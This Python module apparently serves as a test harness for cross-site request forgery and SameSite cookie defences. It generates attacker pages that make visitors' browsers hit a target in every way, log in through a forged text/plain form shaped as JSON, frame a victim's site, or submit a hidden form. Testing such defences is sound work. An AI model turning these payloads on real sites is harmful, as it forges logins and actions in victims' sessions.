"""Pages that make a visitor's browser send requests to somebody else's server."""

from __future__ import annotations

import json
from html import escape

# Each way of sending has a name, and every request carries it, so that one can see what came.
SILENT = ("image", "script", "style", "frame", "fetch", "fetch by POST", "form in a frame")
WINDOWS = ("link", "location", "window", "form in a window", "form by POST in a window")
WAYS = frozenset((*SILENT, *WINDOWS))
# Those for which SameSite=Lax lets a cookie through: windows that are asked for by GET.
LAX = frozenset(WINDOWS) - {"form by POST in a window"}
FORMS = frozenset({"form in a frame", "form by POST in a window"})  # of the page that logs in
THE_END = "That is all."

_PAGE = """<!doctype html>
<meta charset="utf-8" />
<title>Mallory's page</title>
<body>
<iframe name="hidden"></iframe>
<script type="module">
const ended = [];
const add = (tag, members, parent = document.body) => {
  const made = Object.assign(document.createElement(tag), members);
  parent.append(made);
  return made;
};
const form = (action, target, method, fields, enctype = "text/plain") => {
  const made = add("form", { action, target, method, enctype });
  for (const [name, value] of fields) add("input", { type: "hidden", name, value }, made);
  made.submit();
};
%s
await Promise.all(ended);
document.body.append("That is all.");
</script>
"""

_EVERY_WAY = """
const by = (way) => `${place}?by=${encodeURIComponent(way)}`;
const send = (way, method) =>
  fetch(by(way), { method, mode: "no-cors", credentials: "include" }).catch(() => 0);
add("img", { src: by("image") });
add("script", { src: by("script") });
add("link", { rel: "stylesheet", href: by("style") });
add("iframe", { src: by("frame") });
send("fetch", "GET");
send("fetch by POST", "POST");
form(by("form in a frame"), "hidden", "post", []);
add("a", { href: by("link"), target: "_blank" }).click();
open("about:blank").location = by("location");
open(by("window"));
form(place, "_blank", "get", [["by", "form in a window"]]);
form(by("form by POST in a window"), "_blank", "post", []);
"""

_LOG_IN = """
const tell = (way, answer) => ended.push(answer.then(
  (got) => add("p", { textContent: `${way}: ${got.type === "opaque" ? "nothing" : got.status}` }),
  () => add("p", { textContent: `${way}: nothing` }),
));
const post = (mode, type) => fetch(login, {
  method: "POST", mode, credentials: "include",
  body: new Blob([body], type ? { type } : {}), headers: type ? { "Content-Type": type } : {},
});
const cut = body.slice(0, -1) + ', "more": "';
tell("status", fetch(status, { credentials: "include" }));
tell("JSON", post("cors", "application/json"));
tell("text", post("no-cors", "text/plain"));
tell("no type", post("no-cors", ""));
form(`${login}?by=form in a frame`, "hidden", "post", [[cut, '"}']]);
form(`${login}?by=form by POST in a window`, "_blank", "post", [[cut, '"}']]);
"""

_FRAMES = """<!doctype html>
<title>Mallory's page</title>
<iframe src="%s"></iframe>
<iframe src="%s"></iframe>
"""

_FORM = """<!doctype html>
<title>Mallory's page</title>
<form action="%s" method="post" enctype="text/plain">
<input type="hidden" name="%s" value="%s" />
<button>%s</button>
</form>
"""


def sends_in_every_way(place: str) -> str:
    """A page whose visitors' browsers ask for this address in every way there is."""
    return _PAGE % (f"const place = {json.dumps(place)};{_EVERY_WAY}")


def logs_in(url: str, body: dict[str, str]) -> str:
    """A page whose visitors' browsers log in at this server, and tell what they may read."""
    names = {"login": f"{url}/api/login", "status": f"{url}/api/status", "body": json.dumps(body)}
    constants = "".join(f"const {name} = {json.dumps(value)};" for name, value in names.items())
    return _PAGE % (constants + _LOG_IN)


def frames(url: str, own: str) -> str:
    """A page that shows two others inside: the victim's, and one of its own."""
    return _FRAMES % (url, own)


def link(text: str, address: str) -> str:
    """A page with one link."""
    return f'<!doctype html><title>Mallory\'s page</title><a href="{address}">{text}</a>'


def form(text: str, address: str, body: dict[str, str]) -> str:
    """A page with one button that sends this JSON, as well as a form can."""
    name = json.dumps(body)[:-1] + ', "more": "'
    return _FORM % (address, escape(name), escape('"}'), text)
